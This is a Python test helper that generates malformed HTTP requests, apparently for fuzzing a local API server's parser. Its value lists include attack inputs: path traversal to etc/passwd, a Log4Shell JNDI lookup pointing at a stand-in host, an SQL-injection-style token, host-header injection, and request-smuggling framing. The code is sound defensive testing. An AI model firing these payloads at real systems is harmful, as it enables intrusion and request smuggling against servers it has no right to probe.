"""Makes HTTP requests, byte for byte, that are wrong in their line, their headers, the framing of
their body, or anywhere. Sends nothing.
"""

import json
from collections.abc import Callable
from dataclasses import dataclass, field
from random import Random

from tests.api.example_bodies import EXAMPLES

Headers = list[tuple[bytes, bytes]]

# Not HEAD: its answers name a length and have no body, as none but the client can know.
METHODS = (b"GET", b"PUT", b"DELETE", b"PATCH", b"OPTIONS", b"TRACE", b"CONNECT", b"PRI")
ODD_METHODS = (b"FOO123", b"post", b"G\x00T", b"", b"M" * 5000, b"\xff", b"POST POST", b"{}")
TARGETS = (
    b"/",
    b"*",
    b"",
    b"//v1/models",
    b"/v1/../v1/models",
    b"/v1/models/..%2f..%2fetc%2fpasswd",
    b"/v1/models/%00",
    b"/v1/models/%zz",
    b"/health?" + b"a=b&" * 3000,
    b"/health#x",
    b"http://evil.example/v1/models",
    b"http://[::1/v1",
    b"evil.example:443",
    b"/v1/models\t/x",
    b"/v1/\xff\xfe",
    b"/" + b"a" * 70_000,
    b"/v1/responses/{id}",
)
VERSIONS = (
    b"HTTP/1.0",
    b"HTTP/0.9",
    b"HTTP/2.0",
    b"HTTP/9.9",
    b"HTTP/1.1.1",
    b"http/1.1",
    b"X",
    b"",
)
ODD_HEADERS: Headers = [
    (b"content-length", b"5"),
    (b"content-length", b"-1"),
    (b"content-length", b"+3"),
    (b"content-length", b"0x10"),
    (b"content-length", b"9" * 30),
    (b"content-length", b"1, 1"),
    (b"transfer-encoding", b"chunked"),
    (b"transfer-encoding", b"chunked, identity"),
    (b"transfer-encoding", b"gzip, chunked"),
    (b"transfer-encoding", b"\x0bchunked"),
    (b"transfer-encoding", b"xchunked"),
    (b"host", b"evil.example"),
    (b"host", b"a/health?"),
    (b"host", b""),
    (b"expect", b"100-continue"),
    (b"expect", b"200-maybe"),
    (b"upgrade", b"websocket"),
    (b"upgrade", b"h2c"),
    (b"connection", b"upgrade, http2-settings"),
    (b"connection", b"close"),
    (b"content-encoding", b"gzip"),
    (b"content-type", b"multipart/form-data; boundary=" + b"a" * 3000),
    (b"x-forwarded-for", b"1" * 5000),
    (b"x-request-id", b"../\xff" * 50),
    (b"authorization", b"Bearer \xff\xfe'; --"),
    (b"range", b"bytes=0-" + b",0-" * 1000),
    (b"cookie", b"=;" * 1000),
    (b"a b", b"c"),
    (b"", b"x"),
    (b"x\x00y", b"\x00"),
    (b"x", b"a\rb"),
    (b"x", b"\r\n folded"),
    (b"{}", b"${jndi:ldap://evil.example/a}"),
]
CHUNK_SIZES = (b"-1", b"0x5", b"ffffffffffffffff", b"", b" 5", b"5;" + b"x=y;" * 500, b"zz", b"5 ")


@dataclass
class RawRequest:
    """One request in parts. `chunks` None: the body is sent as one, of known length."""

    method: bytes
    target: bytes
    body: bytes
    version: bytes = b"HTTP/1.1"
    headers: Headers = field(default_factory=list)
    chunk_size: bytes | None = None
    is_chunked: bool = False

    def to_bytes(self) -> bytes:
        lines = [b" ".join((self.method, self.target, self.version))]
        lines += [name + b": " + value for name, value in self.headers]
        return b"\r\n".join(lines) + b"\r\n\r\n" + self._framed()

    def _framed(self) -> bytes:
        if not self.is_chunked:
            return self.body
        middle = len(self.body) // 2
        size = b"%x" % middle if self.chunk_size is None else self.chunk_size
        rest = b"%x\r\n" % (len(self.body) - middle) + self.body[middle:] + b"\r\n0\r\n\r\n"
        return size + b"\r\n" + self.body[:middle] + b"\r\n" + rest


def right_request(random: Random) -> RawRequest:
    """One of the examples, whole."""
    path = random.choice(list(EXAMPLES))
    body = json.dumps(random.choice(EXAMPLES[path])).encode()
    request = RawRequest(b"POST", path.encode(), body)
    request.headers = [(b"host", b"127.0.0.1"), (b"content-type", b"application/json")]
    request.is_chunked = random.random() < 0.3
    framing = (b"transfer-encoding", b"chunked")
    length = (b"content-length", b"%d" % len(body))
    request.headers.append(framing if request.is_chunked else length)
    return request


def _other_method(request: RawRequest, random: Random) -> None:
    request.method = random.choice((*METHODS, *ODD_METHODS))


def _other_target(request: RawRequest, random: Random) -> None:
    request.target = random.choice(TARGETS)


def _other_version(request: RawRequest, random: Random) -> None:
    request.version = random.choice(VERSIONS)


def _header_more(request: RawRequest, random: Random) -> None:
    request.headers.insert(random.randrange(4), random.choice(ODD_HEADERS))


def _header_less(request: RawRequest, random: Random) -> None:
    del request.headers[random.randrange(len(request.headers))]


def _many_headers(request: RawRequest, random: Random) -> None:
    request.headers += [
        (b"x-%d" % number, b"y" * 20) for number in range(random.choice((50, 4000)))
    ]


def _huge_header(request: RawRequest, random: Random) -> None:
    request.headers.append((b"x-forwarded-for", b"1" * random.choice((70_000, 300_000))))


def _odd_chunk(request: RawRequest, random: Random) -> None:
    request.is_chunked, request.chunk_size = True, random.choice(CHUNK_SIZES)


def _wrong_length(request: RawRequest, random: Random) -> None:
    request.body = random.choice((request.body[:-9], request.body + b"GET / HTTP/1.1\r\n\r\n"))


_WAYS: tuple[Callable[[RawRequest, Random], None], ...] = (
    _other_method,
    _other_target,
    _other_version,
    _header_more,
    _header_more,
    _header_less,
    _many_headers,
    _huge_header,
    _odd_chunk,
    _wrong_length,
)


def spoiled_bytes(random: Random) -> bytes:
    """One request or several on one connection, of which at least one is spoiled."""
    requests = [_spoiled(random)]
    if random.random() < 0.25:
        whole = [right_request(random).to_bytes() for _ in range(random.randrange(1, 4))]
        requests = [*whole, *requests] if random.random() < 0.5 else [*requests, *whole]
    return b"".join(requests)


def _spoiled(random: Random) -> bytes:
    request = right_request(random)
    if random.random() < 0.2:
        return _bytes_changed(request.to_bytes(), random)
    for _ in range(random.choice((1, 1, 2))):
        random.choice(_WAYS)(request, random)
    return request.to_bytes()


def _bytes_changed(data: bytes, random: Random) -> bytes:
    """Cut short, or with other bytes in a few places."""
    if random.random() < 0.3:
        return data[: random.randrange(1, len(data))]
    changed = bytearray(data)
    for _ in range(random.choice((1, 2, 8))):
        changed[random.randrange(min(len(changed), 200))] = random.choice(b"\r\n \x00:\xffA0%")
    return bytes(changed)
